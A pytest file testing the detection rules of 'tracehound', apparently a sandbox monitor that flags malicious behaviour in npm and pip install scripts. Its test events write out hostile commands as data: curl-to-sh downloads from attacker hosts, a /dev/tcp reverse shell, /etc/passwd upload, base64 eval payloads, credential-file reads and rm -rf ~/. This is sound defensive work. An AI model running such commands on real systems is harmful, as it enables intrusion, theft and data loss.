"""Unit tests of the default ruleset (rules/tracehound_rules.yaml) with hand-written events.

Each case is one event, written as the JSON-lines fields `tracehound rules eval` reads, and the set
of rules that must fire on it - worked out from what the rule is meant to catch, not from the
engine's output. The events mimic what capture records in the sandbox: a process tree below the
sandbox's init (bwrap -> sh -> node /usr/bin/npm rebuild -> sh -c <lifecycle script> -> ...), the
package and phase from attribution, and the persona's environment (CI_PROJECT_DIR, HOME).
These run in well under a second and need neither root nor a sandbox.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tracehound.rules import bundled_rules_path, load_result
from tracehound.rules.jsonl import event_from_fields

HOME = "/home/runner"
PROJECT = "/builds/acme/shop"
NPM = "node /usr/bin/npm rebuild"
PIP = f"python {PROJECT}/.tracehound/py-requirements-txt/venv/bin/python -m pip install --no-index -r req.txt"
BACKEND = ("python /x/venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py "
           "build_wheel /tmp/tmpab12")


@pytest.fixture(scope="module")
def ruleset():
    res = load_result([str(bundled_rules_path())], hostname="h")
    assert res.errors == [], [str(m) for m in res.errors]
    assert res.warnings == [], [str(m) for m in res.warnings]
    return res.ruleset


def lifecycle(cmdline: str, *, script: str = "node install.js", pkg: str = "evil", phase: str = "install",
              parents: list[str] | None = None, **fields) -> dict:
    """An event of a process started (through `parents`) by npm's `sh -c <script>` lifecycle shell."""
    chain = [*(parents or []), f"sh -c {script}", NPM, 'sh -c "$@" 3>&- 4>&-', "bwrap --args 5"]
    d = {
        "proc.cmdline": cmdline, "proc.vpid": 20, "proc.cwd": f"{PROJECT}/node_modules/{pkg}",
        "proc.acmdline": chain, "proc.apid": list(range(19, 19 - len(chain), -1)),
        "proc.env": {"HOME": HOME, "CI": "true", "CI_PROJECT_DIR": PROJECT, "npm_package_name": pkg,
                     "npm_lifecycle_event": "postinstall"},
        "container.id": "abc123", "pkg.name": pkg, "pkg.version": "1.0.0", "pkg.ecosystem": "npm",
        "pkg.phase": phase,
    }
    d.update(fields)
    return d


def execve(cmdline: str, **kw) -> dict:
    return lifecycle(cmdline, **{"evt.type": "execve", "evt.res": "SUCCESS", **kw})


def opened(path: str, cmdline: str = "node install.js", flags: str = "O_RDONLY|O_CLOEXEC", **kw) -> dict:
    return lifecycle(cmdline, **{"evt.type": "openat", "fd.name": path, "fd.type": "file", "evt.arg.flags": flags,
                                 "evt.arg.name": path, **kw})


def connect(sip: str, sport: int, name: str | None = None, proto: str = "tcp", cmdline: str = "node install.js",
            **kw) -> dict:
    d = {"evt.type": "connect", "evt.res": "EINPROGRESS", "fd.type": "ipv6" if ":" in sip else "ipv4",
         "fd.name": f"172.17.0.2:40000->{sip}:{sport}", "fd.l4proto": proto}
    if name:
        d["fd.sip.name"] = name
    return lifecycle(cmdline, **{**d, **kw})


CASES: list[tuple[str, dict, set[str]]] = [
    # ---- network ---------------------------------------------------------------------------------
    ("connect to a sinkholed host", connect("198.18.0.7", 443, "exfil.attacker.example"),
     {"Unexpected outbound connection"}),
    ("connect to loopback", connect("127.0.0.1", 8080), set()),
    ("registry proxy in fetch", connect("172.17.0.1", 3128, cmdline="python -m pip download x", **{"pkg.phase": "fetch"}),
     set()),
    ("registry proxy port in install", connect("172.17.0.1", 3128, **{"pkg.phase": "install"}),
     {"Unexpected outbound connection"}),
    ("DNS query", connect("10.0.0.2", 53, proto="udp"), {"DNS lookup by package code"}),
    ("getaddrinfo probe names the host", connect("198.18.0.9", 0, "c2.attacker.example", proto="udp"),
     {"DNS lookup by package code"}),
    ("vendor binary download by a known package",
     connect("198.18.0.3", 443, "github.com", cmdline="node node_modules/.bin/prebuild-install", pkg="better-sqlite3"),
     set()),
    ("github.com from an unknown package", connect("198.18.0.3", 443, "github.com"), {"Unexpected outbound connection"}),
    ("DNS for a known downloader", connect("10.0.0.2", 53, proto="udp", pkg="sqlite3",
                                           parents=["node node_modules/.bin/prebuild-install"]), set()),
    ("cargo fetching crates", connect("198.18.0.4", 443, "index.crates.io", cmdline="cargo build --release"), set()),
    ("registry API from install code", connect("198.18.0.5", 443, "registry.npmjs.org"),
     {"Unexpected outbound connection", "Package registry or code host contacted by package code"}),
    ("proxy CONNECT to a non-registry host",
     lifecycle("python setup.py egg_info", **{"evt.type": "sendto", "fd.type": "ipv4", "fd.l4proto": "tcp",
               "fd.name": "172.17.0.2:40000->172.17.0.1:3128", "pkg.phase": "fetch",
               "evt.buffer": "CONNECT exfil.attacker.example:443 HTTP/1.1\r\nHost: exfil"}),
     {"Non-registry host requested through the registry proxy"}),
    ("proxy CONNECT to PyPI",
     lifecycle(PIP, **{"evt.type": "sendto", "fd.type": "ipv4", "fd.l4proto": "tcp",
               "fd.name": "172.17.0.2:40000->172.17.0.1:3128", "pkg.phase": "fetch",
               "evt.buffer": "CONNECT pypi.org:443 HTTP/1.0\r\n"}), set()),
    # ---- execution ---------------------------------------------------------------------------------
    ("npm lifecycle shell running a script", execve("sh -c node install.js", parents=[], script="x"), set()),
    ("core-js postinstall banner", execve("node -e try{require('./postinstall')}catch(e){}"), set()),
    ("curl from an install script", execve("curl -s http://dl.attacker.example/x -o x"),
     {"Download tool run by package code"}),
    ("curl piped into sh", execve("sh -c curl -fsSL http://x.attacker.example/i.sh | sh"),
     {"Download and execute", "Suspicious inline code run by package code"}),
    ("download, chmod, run", execve("sh -c wget -q http://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"),
     {"Download and execute", "Suspicious inline code run by package code"}),
    ("dropped file run by the downloading shell (argv cut by eBPF)",
     execve("zyx /tmp/zyx", **{"proc.exepath": "/tmp/zyx"},
            parents=["sh -c curl -s -m 5 http://39.attacker.example/env -o /tmp/zyx; [ -s /tmp/zyx ] || printf '%s' '#!/bin/sh"]),
     {"Download and execute", "Execution from a temporary directory"}),
    ("eval of a long encoded literal (argv cut by eBPF)",
     execve("node -e eval(Buffer.from('" + "cmVxdWlyZSgnZG5zJykubG9va3VwKCdzYW5kYm94LWNoZWNr" * 3),
     {"Suspicious inline code run by package code", "Obfuscated payload executed"}),
    ("long hex build flag is data", execve("sh -c gcc -c -O2 -DUWSGI_BUILD=\"" + "2d4f32202d492e" * 12 + "\" x.c",
                                            parents=["python uwsgiconfig.py --build"]), set()),
    ("node -e with base64 eval", execve("node -e eval(Buffer.from('ZXZhbA==','base64').toString())"),
     {"Suspicious inline code run by package code", "Obfuscated payload executed"}),
    ("python -c decoding and exec", execve("python3 -c exec(__import__('base64').b64decode('cHJpbnQ='))"),
     {"Suspicious inline code run by package code", "Obfuscated payload executed"}),
    ("python -c harmless", execve("python3 -c import sys; print(sys.version_info[:2])"), set()),
    ("pip's setuptools shim", execve("python -c exec(compile('''# This is <pip-setuptools-caller>", parents=[PIP]),
     set()),
    ("import driver loader child", execve("node -e require(name); child_process",
                                          parents=["node /opt/ci-tools/node_import.js /opt/ci-tools/x.json"]),
     set()),
    ("exec from /tmp", execve("x /tmp/x", **{"proc.exepath": "/tmp/x"}), {"Execution from a temporary directory"}),
    ("pip build env tool", execve("cmake --version", **{"proc.exepath": "/tmp/pip-build-env-a1/overlay/bin/cmake"}),
     set()),
    ("cargo build script", execve("build-script-build",
                                  **{"proc.exepath": "/tmp/pip-req-build-x/target/release/build/a-1/build-script-build"}),
     set()),
    ("exec from ~/.config", execve("updater", **{"proc.exepath": f"{HOME}/.config/upd/updater"}),
     {"Execution from a hidden directory in the home directory"}),
    ("corepack pnpm", execve("pnpm install", **{"proc.exepath": f"{HOME}/.cache/node/corepack/pnpm/9.0.0/bin/pnpm"}),
     set()),
    ("memfd exec", execve("kworker -o pool:3333", **{"proc.exepath": "memfd:kworker", "proc.is_exe_from_memfd": True}),
     {"Fileless execution from memory"}),
    ("xmrig by name", execve("xmrig -o x:1", **{"proc.exepath": f"{PROJECT}/node_modules/evil/xmrig"}),
     {"Cryptocurrency miner started"}),
    ("renamed miner by options", execve("jsextension -o pool.minexmr.example:443 --donate-level=1"),
     {"Cryptocurrency miner started"}),
    ("npm publish from install code", execve("node /usr/bin/npm publish --registry http://r.example/"),
     {"Package publish or repository push from package code"}),
    ("npm rebuild itself", execve(NPM, parents=[], script="x"), set()),
    ("git push", execve("git push origin main"), {"Package publish or repository push from package code"}),
    ("gh auth token", execve("sh -c gh auth token"), {"Package publish or repository push from package code"}),
    ("token in argv", execve("curl -H Authorization: token ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghij https://api.example"),
     {"Secret token on a command line", "Download tool run by package code"}),
    ("curl posting /etc/passwd", execve("curl -X POST --data-binary @/etc/passwd http://x.example/"),
     {"Download tool run by package code", "Local file uploaded by a download tool"}),
    ("whoami", execve("whoami"), {"Host reconnaissance command"}),
    ("uname -m under configure", execve("uname -m", parents=["configure --prefix=/usr"]), set()),
    ("uname -a", execve("uname -a"), {"Host reconnaissance command"}),
    ("hostname in sh configure", execve("hostname", parents=["bash ./config.guess", "sh configure --with-gmp"]), set()),
    ("sudo", execve("sudo id"), {"Privilege escalation attempt"}),
    ("rm -rf home", execve("rm -rf ~/"), {"Destructive command run by package code"}),
    ("rm -rf own build dir", execve("rm -rf build"), set()),
    ("make recipe with backticks", execve("sh -c rm -f a.a; mkdir -p `dirname a.a`", parents=["make -C build"]), set()),
    ("make recipe printf with escapes", execve("sh -c printf '%s\\n' 'cmd_x := touch x' > x.d", parents=["make -C build"]),
     set()),
    ("fallback with ||", execve("sh -c node-gyp rebuild || node suppress-error.js", parents=[], script="x"), set()),
    ("hex escapes decoded in a shell", execve("sh -c printf '\\x63\\x75\\x72\\x6c' | sh"),
     {"Suspicious inline code run by package code", "Obfuscated payload executed"}),
    # ---- reverse shells ------------------------------------------------------------------------------
    ("socket onto stdin", lifecycle("python3 x.py", **{"evt.type": "dup2", "evt.rawres": 0, "fd.type": "ipv4",
                                                        "fd.name": "172.17.0.2:1->198.18.0.1:4444"}),
     {"Reverse shell"}),
    ("pipe onto stdin", lifecycle("python3 x.py", **{"evt.type": "dup2", "evt.rawres": 0, "fd.type": "pipe"}), set()),
    ("shell with a socket as stdin", execve("sh -i", **{"proc.stdin.type": "ipv4", "proc.stdout.type": "ipv4"}),
     {"Reverse shell"}),
    ("node pipes into sh -i", execve("sh -i", parents=["node index.js"]), {"Reverse shell"}),
    ("bash /dev/tcp", execve("bash -c bash -i >& /dev/tcp/c2.example/4444 0>&1"),
     {"Reverse shell", "Suspicious inline code run by package code"}),
    # ---- credentials ---------------------------------------------------------------------------------
    ("npm reads ~/.npmrc", opened(f"{HOME}/.npmrc", NPM, parents=[], script="x"), set()),
    ("install code reads ~/.npmrc", opened(f"{HOME}/.npmrc"), {"Package manager credential file read by package code"}),
    ("ssh key", opened(f"{HOME}/.ssh/id_rsa"), {"Credential file read by package code"}),
    ("aws credentials, missing file", opened(f"{HOME}/.aws/credentials", **{"evt.res": "ENOENT", "fd.num": -1}),
     {"Credential file read by package code"}),
    ("chrome logins", opened(f"{HOME}/.config/google-chrome/Default/Login Data"), {"Credential file read by package code"}),
    ("wallet", opened(f"{HOME}/.bitcoin/wallet.dat"), {"Credential file read by package code"}),
    ("another process's environment", opened("/proc/1/environ"),
     {"Credential file read by package code", "Sandbox fingerprinting by package code"}),
    ("ps reads environments", opened("/proc/1/environ", "ps", parents=["sh -c ps"]), set()),
    ("prisma reads npm config when loaded", opened(f"{HOME}/.npmrc", "node -e require(name)", pkg="prisma",
                                                   **{"pkg.phase": "import"}), set()),
    ("prisma reads npm config during install", opened(f"{HOME}/.npmrc", "node scripts/postinstall.js", pkg="prisma"),
     {"Package manager credential file read by package code"}),
    ("pip reads ~/.netrc", opened(f"{HOME}/.netrc", PIP, parents=[], script="x"), set()),
    ("gitconfig is not a credential", opened(f"{HOME}/.gitconfig"), set()),
    # ---- persistence and tampering -----------------------------------------------------------------
    ("append to ~/.bashrc", opened(f"{HOME}/.bashrc", flags="O_WRONLY|O_APPEND|O_CREAT"),
     {"Persistence file written by package code"}),
    ("read ~/.bashrc", opened(f"{HOME}/.bashrc"), set()),
    ("cron file", opened("/etc/cron.d/x", flags="O_WRONLY|O_CREAT|O_TRUNC"), {"Persistence file written by package code"}),
    ("crontab -", execve("crontab -"), {"Persistence file written by package code"}),
    ("git hook in a dependency", opened(f"{PROJECT}/node_modules/x/.git/hooks/pre-commit", flags="O_WRONLY|O_CREAT"),
     {"Git hook written by package code", "Package code modified another package"}),
    ("husky hook in the project", opened(f"{PROJECT}/.git/hooks/pre-commit", "node husky/lib/installer/bin install",
                                          flags="O_WRONLY|O_CREAT|O_TRUNC", pkg="husky"), set()),
    ("unknown package's hook in the project", opened(f"{PROJECT}/.git/hooks/pre-push", flags="O_WRONLY|O_CREAT"),
     {"Git hook written by package code"}),
    (".pth by a build backend", opened(f"{PROJECT}/.tracehound/py-r/venv/lib/python3.11/site-packages/x.pth", BACKEND,
                                       flags="O_WRONLY|O_CREAT|O_TRUNC", parents=[PIP]),
     {"Python startup hook planted by package code"}),
    (".pth installed by pip", opened(f"{PROJECT}/.tracehound/py-r/venv/lib/python3.11/site-packages/distutils-precedence.pth", PIP,
                                     flags="O_WRONLY|O_CREAT|O_TRUNC", parents=[], script="x"), set()),
    ("ensurepip bootstrap", opened("/v/lib/python3.11/site-packages/distutils-precedence.pth",
                                   'python3 -W ignore -c import runpy\nrunpy.run_module("pip", run_name="__main__")',
                                   flags="O_WRONLY|O_CREAT|O_TRUNC", parents=["python -m ensurepip --upgrade"]), set()),
    # eBPF keeps the first 159 bytes of each argument: the bootstrap's run_module("pip") is cut off
    ("ensurepip bootstrap, argv cut by eBPF", opened(
        "/v/lib/python3.11/site-packages/distutils-precedence.pth",
        "python3 -W ignore::DeprecationWarning -c \nimport runpy\nimport sys\nsys.path = ['/tmp/tmpq1w2e3r4/"
        "pip-23.2.1-py3-none-any.whl'] + sys.path\nsys.argv[1:] = ['install', '--no-cache-dir', '--no-index', '--fin",
        flags="O_WRONLY|O_CREAT|O_TRUNC", parents=["python -m ensurepip --upgrade --default-pip"]), set()),
    ("inline code under ensurepip's parent that is not the bootstrap", opened(
        "/v/lib/python3.11/site-packages/evil.pth", "python3 -c open('evil.pth','w')",
        flags="O_WRONLY|O_CREAT|O_TRUNC", parents=["python -m ensurepip --upgrade --default-pip"]),
     {"Python startup hook planted by package code"}),
    ("write into another package", opened(f"{PROJECT}/node_modules/ethers/lib/index.js", flags="O_WRONLY|O_TRUNC"),
     {"Package code modified another package"}),
    ("write into its own package", opened(f"{PROJECT}/node_modules/evil/build/Release/x.node", flags="O_WRONLY|O_CREAT"),
     set()),
    ("gyp bytecode cache", opened(f"{PROJECT}/node_modules/node-gyp/gyp/pylib/gyp/__pycache__/x.pyc.123",
                                  "python3 node_modules/node-gyp/gyp/gyp_main.py", flags="O_WRONLY|O_CREAT|O_EXCL",
                                  pkg="sqlite3"), set()),
    ("shared node_modules cache", opened(f"{PROJECT}/node_modules/.cache/x/y", flags="O_WRONLY|O_CREAT"), set()),
    ("project file truncated", opened(f"{PROJECT}/src/main.js", flags="O_WRONLY|O_CREAT|O_TRUNC"),
     {"Project file overwritten or deleted by package code"}),
    ("project file deleted", lifecycle("node x.js", **{"evt.type": "unlinkat", "evt.arg.name": f"{PROJECT}/README.md"}),
     {"Project file overwritten or deleted by package code"}),
    # ---- evasion -------------------------------------------------------------------------------------
    ("/.dockerenv check", lifecycle("node x.js", **{"evt.type": "access", "evt.arg.name": "/.dockerenv",
                                                     "evt.res": "ENOENT"}), {"Sandbox fingerprinting by package code"}),
    ("DMI vendor", opened("/sys/class/dmi/id/sys_vendor", "python3 x.py", **{"evt.res": "ENOENT"}),
     {"Sandbox fingerprinting by package code"}),
    ("node start-up cgroup read", opened("/proc/self/cgroup", "node install.js"), set()),
    ("Go runtime cgroup read", opened("/proc/self/cgroup", "turbo"), set()),
    ("kernel version", opened("/proc/version", "node -e require(name)"), set()),
    ("init's cgroup", opened("/proc/1/cgroup", "node install.js"), {"Sandbox fingerprinting by package code"}),
    ("ptrace attach", lifecycle("python3 x.py", **{"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH",
                                                    "evt.arg.pid": 2, "evt.res": "EPERM"}),
     {"Process injection or debugger attach by package code"}),
    ("ptrace traceme", lifecycle("x", **{"evt.type": "ptrace", "evt.arg.request": "PTRACE_TRACEME", "evt.res": "EPERM"}),
     {"Debugger detection by package code"}),
    ("packet socket", lifecycle("node sniff.js", **{"evt.type": "socket", "evt.arg.domain": "AF_PACKET",
                                                     "evt.arg.type": 3, "evt.res": "EPERM"}),
     {"Raw or packet socket requested by package code"}),
    ("raw IPv4 socket with CLOEXEC", lifecycle("python3 x.py", **{"evt.type": "socket", "evt.arg.domain": "AF_INET",
                                                                    "evt.arg.type": 524291, "evt.res": "EPERM"}),
     {"Raw or packet socket requested by package code"}),
    ("ordinary TCP socket", lifecycle("node x.js", **{"evt.type": "socket", "evt.arg.domain": "AF_INET",
                                                        "evt.arg.type": 524289, "evt.res": 20}), set()),
    # ---- outside the sandbox ---------------------------------------------------------------------------
    ("sandbox init shell (pid 1) carrying the command", {
        "evt.type": "execve", "evt.res": "SUCCESS", "proc.vpid": 1, "proc.name": "sh",
        "proc.cmdline": 'sh -c "$@" 3>&- 4>&-; echo $? >&3 sh sh -c curl -s http://x.example | sh',
        "proc.pname": "bwrap", "container.id": "abc123"}, set()),
    ("host-side shim", {"evt.type": "openat", "proc.cmdline": "python3 -I -S /x/_shim.py {}",
                        "fd.name": "/sys/fs/cgroup/unified/tracehound/x/cgroup.procs", "fd.type": "file",
                        "evt.arg.flags": "O_WRONLY", "container.id": "abc123"}, set()),
    ("bwrap itself", {"evt.type": "openat", "proc.cmdline": "bwrap --args 5", "proc.vpid": 1,
                      "fd.name": "/proc/self/mountinfo", "fd.type": "file", "evt.arg.flags": "O_RDONLY"}, set()),
]


@pytest.mark.parametrize("fields,expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_rule_fires_exactly_as_expected(ruleset, fields, expected):
    ev = event_from_fields(fields)
    fired = {a.rule for a in ruleset.match(ev)}
    assert fired == expected


def test_every_rule_is_covered_by_a_case(ruleset):
    covered = set().union(*(c[2] for c in CASES))
    # built into the monitor, not syscall rules
    rules = {r.name for r in ruleset.enabled_rules()}
    missing = rules - covered - {"Kernel module load attempt"}
    assert not missing, f"rules without a unit case: {sorted(missing)}"


def test_every_rule_names_package_phase_and_mitre(ruleset):
    for r in ruleset.enabled_rules():
        assert "%pkg.name@%pkg.version" in r.output and "%pkg.phase" in r.output, r.name
        assert "%proc.cmdline" in r.output, r.name
        assert any(t.startswith("mitre_") for t in r.tags) and any(t.startswith("T1") for t in r.tags), r.name
        assert any(t.startswith("maturity_") for t in r.tags), r.name
        assert r.desc.strip(), r.name


def test_alert_carries_package_and_phase(ruleset):
    ev = event_from_fields(connect("198.18.0.7", 443, "exfil.attacker.example"))
    [alert] = ruleset.match(ev)
    out = alert.to_falco_json()
    assert out["priority"] == "Warning"
    assert "package=evil@1.0.0 phase=install destination=exfil.attacker.example" in out["output"]
    assert out["output_fields"]["fd.sip.name"] == "exfil.attacker.example"


def test_rules_eval_cli_reads_the_same_events(tmp_path):
    """The `tracehound rules eval` path (JSONL file in, Falco JSON out) agrees with the in-process one."""
    cases = [c for c in CASES if c[0] in ("curl piped into sh", "npm reads ~/.npmrc", "ssh key")]
    events = tmp_path / "events.jsonl"
    events.write_text("".join(json.dumps(c[1]) + "\n" for c in cases))
    exe = Path(sys.executable).parent / "tracehound"
    if not exe.exists():
        pytest.skip("the tracehound console script is not installed next to this interpreter")
    p = subprocess.run([str(exe), "rules", "eval", "--rules", str(bundled_rules_path()), "--events", str(events)],
                       capture_output=True, text=True)
    assert p.returncode == 1, p.stderr  # 1: alerts
    fired = sorted(json.loads(line)["rule"] for line in p.stdout.splitlines() if line.startswith("{"))
    assert fired == sorted(["Download and execute", "Suspicious inline code run by package code",
                            "Credential file read by package code"]), p.stderr
